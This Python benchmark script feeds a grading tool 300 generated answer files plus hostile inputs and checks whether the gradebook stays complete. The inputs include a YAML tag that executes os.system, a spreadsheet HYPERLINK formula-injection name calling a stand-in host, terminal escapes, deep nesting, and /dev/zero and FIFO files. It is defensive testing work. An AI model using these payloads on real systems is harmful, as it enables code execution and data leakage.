"""A class of 300 good answers files with 20 hostile ones among them: is the gradebook complete, and how long?

    python benchmarks/hostile_class.py [--count 300] [--jobs N]

The hostile files are the ones of issue 12 (YAML nested 400 deep, a 5000-digit
name, a surrogate, /dev/zero, a FIFO, a 20,000-key file, a formula injection as
a name, …). Prints the wall time, the gradebook rows and the error lines.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from make_answers import write_class  # noqa: E402

HOSTILE = {
    "deep.yaml": "answers:\n  theta_11: " + "[" * 350 + "]" * 350 + "\n",
    "deepname.yaml": "student: " + "{a: " * 400 + "1" + "}" * 400 + "\nanswers: {}\n",
    "digits.yaml": "student: " + "9" * 5000 + "\nanswers: {theta_11: x}\n",
    "surrogate.yaml": 'student: "Eve \\ud800"\nanswers: {theta_11: x}\n',
    "esc.yaml": "student: Mallory\x1b[2J\nanswers: {theta_11: x}\n",
    "keys.yaml": "answers:\n" + "".join(f"  k{i}: a\n" for i in range(20_000)),
    "formula.yaml": 'student: "=HYPERLINK(\\"http://x/?\\"&A1)"\nanswers: {theta_11: x}\n',
    "slow.yaml": "answers: {theta_11: \"" + "tanh(" * 8 + "x" + ")" * 8 + "\"}\n",
    "tag.yaml": "answers: !!python/object/apply:os.system [id]\n",
    "binary.yaml": "answers: {}\n\x00",
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=300)
    parser.add_argument("--jobs", type=int)
    args = parser.parse_args()
    spec = "specs/two-layer-relu.yaml"
    with tempfile.TemporaryDirectory() as folder:
        base = Path(folder)
        paths = write_class(spec, args.count, base)
        for name, text in HOSTILE.items():
            (base / name).write_text(text, encoding="utf-8")
            paths.append(base / name)
        for i in range(5):
            (base / f"zero{i}.yaml").symlink_to("/dev/zero")
            os.mkfifo(base / f"fifo{i}.yaml")
            paths += [base / f"zero{i}.yaml", base / f"fifo{i}.yaml"]
        command = [sys.executable, "-m", "derive", "check", spec, *map(str, sorted(paths)), "--format", "csv"]
        command += ["--jobs", str(args.jobs)] if args.jobs else []
        start = time.perf_counter()
        proc = subprocess.run(command, capture_output=True, text=True, timeout=600)
        elapsed = time.perf_counter() - start
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    errors = [line for line in proc.stderr.splitlines() if line.startswith("derive: ")]
    hostile = len(HOSTILE) + 10
    print(f"{args.count} good + {hostile} hostile files: {elapsed:.1f} s wall, exit {proc.returncode}")
    print(f"gradebook rows: {len(rows)} (expected {args.count + 2}: the good files, the formula-injection name and "
          f"the slow answer are graded too); "
          f"error lines: {len(errors)}; tracebacks: {proc.stderr.count('Traceback')}")


if __name__ == "__main__":
    main()
